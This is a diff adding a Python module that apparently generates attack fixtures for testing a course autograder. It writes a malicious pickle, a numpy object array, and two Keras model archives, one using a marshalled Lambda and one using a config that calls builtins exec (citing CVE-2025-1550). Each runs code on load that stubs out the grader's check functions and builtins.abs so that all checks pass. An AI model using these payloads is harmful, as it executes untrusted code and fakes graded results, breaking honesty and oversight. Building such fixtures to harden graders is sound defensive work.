@@ -1,0 +1,111 @@
+"""What the attacks lay beside their notebooks that is no text; each function writes one file."""
+
+import io
+import json
+import os
+import pickle
+import zipfile
+
+import h5py
+import numpy as np
+
+# Run by whoever unpickles it: it makes every later check of that process pass.
+TAKE_OVER = """
+import builtins
+builtins.abs = lambda value: 0
+from course import checks
+for name in ("that", "equal", "answer", "array", "close", "at_least"):
+    setattr(checks, name, lambda *arguments, **keywords: None)
+"""
+
+
+class RunsCode:
+    """An object that runs code where it is unpickled."""
+
+    def __reduce__(self):
+        return exec, (TAKE_OVER,)
+
+
+def pickled_value(path):
+    path.write_bytes(pickle.dumps(RunsCode()))
+
+
+def pickled_array(path):
+    np.save(path, np.array([RunsCode()], dtype=object), allow_pickle=True)
+
+
+def lambda_model(path):
+    """Write a model whose layer is a Lambda with marshalled code, as Keras saves them."""
+    import codecs
+    import marshal
+
+    code = compile(f"lambda x: (exec({TAKE_OVER!r}), x)[1]", "lambda", "eval").co_consts[0]
+    function = codecs.encode(marshal.dumps(code), "base64").decode("ascii")
+    arguments = {
+        "name": "lambda",
+        "trainable": True,
+        "function": {
+            "class_name": "__lambda__",
+            "config": {"code": function, "defaults": None, "closure": None},
+        },
+        "arguments": {},
+    }
+    layer = {
+        "module": "keras.layers",
+        "class_name": "Lambda",
+        "config": arguments,
+        "registered_name": None,
+    }
+    _write_model(path, layer)
+
+
+def calling_model(path):
+    """Write a model whose config names a function to call, after CVE-2025-1550."""
+    layer = {
+        "module": "keras.layers",
+        "class_name": "Lambda",
+        "config": {
+            "name": "lambda",
+            "function": {
+                "class_name": "function",
+                "module": "builtins",
+                "config": "exec",
+                "registered_name": "function",
+            },
+            "arguments": {"globals": None},
+        },
+        "registered_name": None,
+    }
+    called = {
+        "module": "builtins",
+        "class_name": "exec",
+        "config": {"source": TAKE_OVER},
+        "registered_name": None,
+    }
+    _write_model(path, layer, called)
+
+
+def named_pipe(path):
+    os.mkfifo(path)
+
+
+def _write_model(path, *layers):
+    entrance = {
+        "module": "keras.layers",
+        "class_name": "InputLayer",
+        "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "entrance"},
+        "registered_name": None,
+    }
+    config = {
+        "module": "keras",
+        "class_name": "Sequential",
+        "config": {"name": "model", "trainable": True, "layers": [entrance, *layers]},
+        "registered_name": None,
+        "build_config": {"input_shape": [None, 2]},
+    }
+    weights = io.BytesIO()
+    h5py.File(weights, "w").close()
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("metadata.json", json.dumps({"keras_version": "3.10.0"}))
+        archive.writestr("config.json", json.dumps(config))
+        archive.writestr("model.weights.h5", weights.getvalue())
